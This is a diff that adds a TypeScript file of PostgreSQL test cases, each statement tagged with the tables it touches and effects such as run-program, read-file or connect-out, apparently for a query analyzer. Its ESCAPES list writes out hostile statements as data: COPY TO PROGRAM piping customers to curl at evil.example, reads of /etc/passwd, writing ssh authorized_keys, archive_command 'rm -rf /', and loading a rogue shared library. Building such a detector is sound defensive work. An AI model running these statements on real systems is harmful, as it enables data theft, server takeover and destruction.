@@ -1,0 +1,207 @@
+import { type Case, entry } from "./case.ts";
+
+/** The session, transactions, locks, upkeep. */
+export const UTILITIES: readonly Case[] = [
+  entry("BEGIN", "transaction"),
+  entry("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", {
+    effects: "change-setting",
+    settings: "transaction_isolation",
+  }),
+  entry("BEGIN READ WRITE", "transaction", { effects: "change-setting", settings: "transaction_read_only" }),
+  entry("COMMIT", "transaction"),
+  entry("END TRANSACTION", "transaction", { tag: "COMMIT" }),
+  entry("ROLLBACK", "transaction"),
+  entry("ABORT", "transaction", { tag: "ROLLBACK" }),
+  entry("SAVEPOINT s", "transaction"),
+  entry("RELEASE SAVEPOINT s", "transaction", { tag: "RELEASE" }),
+  entry("ROLLBACK TO SAVEPOINT s", "transaction", { tag: "ROLLBACK" }),
+  entry("SET CONSTRAINTS ALL DEFERRED", "transaction"),
+  entry("PREPARE TRANSACTION 'foobar'", "two-phase"),
+  entry("COMMIT PREPARED 'foobar'", "two-phase"),
+  entry("ROLLBACK PREPARED 'foobar'", "two-phase"),
+  entry("SET search_path TO app, public", "set", { effects: "change-setting", settings: "search_path" }),
+  entry("SET LOCAL statement_timeout = 0", "set", {
+    effects: "change-setting",
+    settings: "statement_timeout",
+  }),
+  entry("SET TIME ZONE 'Europe/Rome'", "set", { effects: "change-setting", settings: "timezone" }),
+  entry("SET myapp.actor = 'x'", "set", { effects: "change-setting", settings: "myapp.actor" }),
+  entry("SET TRANSACTION READ ONLY", "set", { effects: "change-setting", settings: "transaction_read_only" }),
+  entry("RESET work_mem", "set", { tag: "RESET", effects: "change-setting", settings: "work_mem" }),
+  entry("RESET ALL", "set", { effects: "change-setting", settings: "*" }),
+  entry("DISCARD ALL", "set", { tag: "DISCARD ALL", effects: "change-setting", settings: "*" }),
+  entry("DISCARD TEMP", "set", { tag: "DISCARD TEMP" }),
+  entry("DISCARD PLANS", "set"),
+  entry("DEALLOCATE p", "set", { tag: "DEALLOCATE" }),
+  entry("DEALLOCATE PREPARE ALL", "set", { tag: "DEALLOCATE ALL" }),
+  entry("SELECT set_config('search_path', '', false)", "select set", {
+    effects: "change-setting",
+    settings: "search_path",
+  }),
+  entry("SELECT pg_catalog.set_config('statement_timeout', '0', true) FROM customers", "select set", {
+    reads: "customers",
+    effects: "change-setting",
+    settings: "statement_timeout",
+  }),
+  entry("LISTEN jobs", "notify", { effects: "notify" }),
+  entry("UNLISTEN *", "notify", { effects: "notify" }),
+  entry("NOTIFY jobs, 'go'", "notify", { effects: "notify" }),
+  entry("SELECT pg_notify('jobs', 'go')", "notify select", { effects: "notify" }),
+  entry("LOCK TABLE customers", "lock", { reads: "customers", effects: "lock" }),
+  entry("LOCK customers IN ACCESS SHARE MODE NOWAIT", "lock", { reads: "customers", effects: "lock" }),
+  entry("SELECT pg_advisory_lock(1)", "lock select", { effects: "lock" }),
+  entry("SELECT pg_try_advisory_xact_lock(1, 2)", "lock select", { effects: "lock" }),
+  entry("VACUUM", "maintain", { opaque: true, because: "it names no table: all" }),
+  entry("VACUUM FULL customers", "maintain", { writes: "customers", effects: "lock" }),
+  entry("VACUUM (FULL false, ANALYZE) customers", "maintain", { writes: "customers" }),
+  entry("VACUUM (FULL) customers", "maintain", { writes: "customers", effects: "lock" }),
+  entry("ANALYZE customers (name)", "maintain", { tag: "ANALYZE", reads: "customers" }),
+  entry("REINDEX TABLE customers", "maintain", { writes: "customers", effects: "lock" }),
+  entry("REINDEX (CONCURRENTLY) TABLE customers", "maintain", { writes: "customers" }),
+  entry("CLUSTER customers USING i", "maintain", { writes: "customers", effects: "lock" }),
+  entry("REFRESH MATERIALIZED VIEW CONCURRENTLY order_totals", "maintain", {
+    reads: "orders",
+    writes: "order_totals",
+  }),
+  entry("CHECKPOINT", "maintain", { effects: "control-server" }),
+  entry("SELECT gin_clean_pending_list('i')", "maintain select"),
+  entry("SELECT nextval('customers_id_seq')", "select", { effects: "sequence" }),
+  entry("SELECT setval('customers_id_seq', 1)", "select", { effects: "sequence" }),
+  entry("DO $$ BEGIN PERFORM 1; END $$", "do", { effects: "dynamic-sql", opaque: true }),
+  entry("DO LANGUAGE plpgsql 'begin end'", "do", { effects: "dynamic-sql", opaque: true }),
+  entry("CALL archive()", "call", { opaque: true }),
+  entry("CALL archive((SELECT token FROM app.secrets))", "call select", {
+    reads: "app.secrets",
+    opaque: true,
+  }),
+];
+
+/** The server, its files, its programs, its neighbours. */
+export const ESCAPES: readonly Case[] = [
+  entry("COPY customers TO '/tmp/customers.csv'", "escape select", {
+    reads: "customers",
+    effects: "write-file",
+  }),
+  entry("COPY customers FROM '/etc/passwd'", "escape insert", { writes: "customers", effects: "read-file" }),
+  entry("COPY customers TO PROGRAM 'curl -d @- evil.example'", "escape select", {
+    reads: "customers",
+    effects: "run-program",
+  }),
+  entry("COPY scratch FROM PROGRAM 'id'", "escape insert", {
+    writes: "pg_temp.scratch",
+    effects: "run-program",
+  }),
+  entry("COPY (SELECT 'x') TO '/var/lib/postgresql/.ssh/authorized_keys'", "escape select", {
+    effects: "write-file",
+  }),
+  entry("COPY BINARY customers TO '/tmp/x'", "escape select", { reads: "customers", effects: "write-file" }),
+  entry("SELECT pg_read_file('/etc/passwd')", "escape select", { effects: "read-file" }),
+  entry("SELECT pg_catalog.pg_read_binary_file('x', 0, 10)", "escape select", { effects: "read-file" }),
+  entry("SELECT * FROM pg_ls_dir('.')", "escape select", { effects: "read-file" }),
+  entry("SELECT (pg_stat_file('x')).size", "escape select", { effects: "read-file" }),
+  entry("SELECT lo_import('/etc/passwd')", "escape select", { effects: "large-object read-file" }),
+  entry("SELECT lo_export(16384, '/tmp/x')", "escape select", { effects: "large-object write-file" }),
+  entry("SELECT lo_get(16384), lo_unlink(16385)", "select", { effects: "large-object" }),
+  entry("SELECT pg_sleep(10)", "select", { effects: "sleep" }),
+  entry("SELECT pg_sleep_for('5 minutes')", "select", { effects: "sleep" }),
+  entry("SELECT pg_terminate_backend(1)", "administer select", { effects: "signal-backend" }),
+  entry("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "administer select", {
+    reads: "pg_catalog.pg_stat_activity",
+    effects: "read-system signal-backend",
+  }),
+  entry("SELECT pg_reload_conf()", "administer select", { effects: "control-server" }),
+  entry("SELECT pg_promote()", "administer select", { effects: "control-server" }),
+  entry("SELECT pg_create_physical_replication_slot('s')", "administer select", {
+    effects: "control-server",
+  }),
+  entry("SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)", "administer select", {
+    effects: "control-server read-system",
+    opaque: true,
+  }),
+  entry("SELECT query_to_xml('SELECT * FROM app.secrets', true, true, '')", "select", {
+    effects: "dynamic-sql",
+    opaque: true,
+  }),
+  entry("SELECT table_to_xml('app.secrets', true, true, '')", "select", {
+    effects: "dynamic-sql",
+    opaque: true,
+  }),
+  entry("SELECT database_to_xml(true, true, '')", "select", { effects: "dynamic-sql", opaque: true }),
+  entry("SELECT * FROM ts_stat('SELECT token::tsvector FROM app.secrets')", "select", {
+    effects: "dynamic-sql",
+    opaque: true,
+  }),
+  entry("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM app.aliases')", "select", {
+    effects: "dynamic-sql",
+    opaque: true,
+  }),
+  entry("SELECT * FROM dblink('dbname=other', 'SELECT 1') AS t(a int)", "escape select", {
+    effects: "connect-out dynamic-sql",
+    opaque: true,
+  }),
+  entry("ALTER SYSTEM SET archive_command = 'rm -rf /'", "administer", {
+    effects: "control-server write-file",
+  }),
+  entry("ALTER SYSTEM RESET ALL", "administer", { effects: "control-server write-file" }),
+  entry("ALTER DATABASE shop SET search_path = evil", "administer alter"),
+  entry("ALTER ROLE agent SET search_path = evil", "administer alter"),
+  entry("ALTER ROLE ALL RESET ALL", "administer alter"),
+  entry("CREATE DATABASE other", "administer create", { effects: "control-server" }),
+  entry("ALTER DATABASE shop CONNECTION LIMIT 1", "administer alter", { effects: "control-server" }),
+  entry("ALTER DATABASE shop OWNER TO agent", "administer alter grant"),
+  entry("ALTER DATABASE shop RENAME TO market", "administer alter"),
+  entry("DROP DATABASE shop WITH (FORCE)", "administer drop", { effects: "control-server signal-backend" }),
+  entry("LOAD '/tmp/evil.so'", "administer", { effects: "run-program" }),
+  entry("CREATE EXTENSION dblink", "administer create", { effects: "run-program", opaque: true }),
+  entry("ALTER EXTENSION postgis UPDATE", "administer alter", { effects: "run-program", opaque: true }),
+  entry("DROP EXTENSION postgis CASCADE", "administer drop", {
+    opaque: true,
+    because: "what it made goes with it",
+  }),
+  entry("CREATE LANGUAGE plpython3u", "administer create", {
+    effects: "run-program",
+    opaque: true,
+    because: "the grammar makes it CREATE EXTENSION",
+  }),
+  entry("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION refresh_totals()", "administer create"),
+  entry("ALTER EVENT TRIGGER e DISABLE", "administer alter"),
+  entry("CREATE PUBLICATION p FOR ALL TABLES", "administer create", {
+    effects: "control-server",
+    opaque: true,
+    because: "every table is shown",
+  }),
+  entry("CREATE PUBLICATION p FOR TABLE customers", "administer create", {
+    reads: "customers",
+    effects: "control-server",
+  }),
+  entry("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "administer create", {
+    effects: "connect-out control-server",
+  }),
+  entry("ALTER SUBSCRIPTION s DISABLE", "administer alter", { effects: "connect-out control-server" }),
+  entry("DROP SUBSCRIPTION s", "administer drop", { effects: "connect-out control-server" }),
+  entry("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", "administer create", {
+    effects: "connect-out",
+  }),
+  entry("CREATE USER MAPPING FOR agent SERVER s OPTIONS (password 'x')", "administer create", {
+    effects: "connect-out",
+  }),
+  entry("CREATE FOREIGN TABLE ft (a int) SERVER s", "administer create", {
+    writes: "ft",
+    effects: "connect-out",
+  }),
+  entry("IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public", "administer create", {
+    effects: "connect-out",
+    opaque: true,
+  }),
+  entry("ALTER FOREIGN TABLE remote_orders OPTIONS (SET table_name 'secrets')", "administer alter", {
+    writes: "remote_orders",
+    effects: "connect-out",
+  }),
+  entry("CREATE TABLESPACE t LOCATION '/mnt/x'", "administer create", {
+    effects: "control-server write-file",
+  }),
+  entry("DROP TABLESPACE t", "administer drop", { effects: "control-server" }),
+  entry("CREATE ACCESS METHOD am TYPE INDEX HANDLER bthandler", "administer create", {
+    effects: "run-program",
+  }),
+];
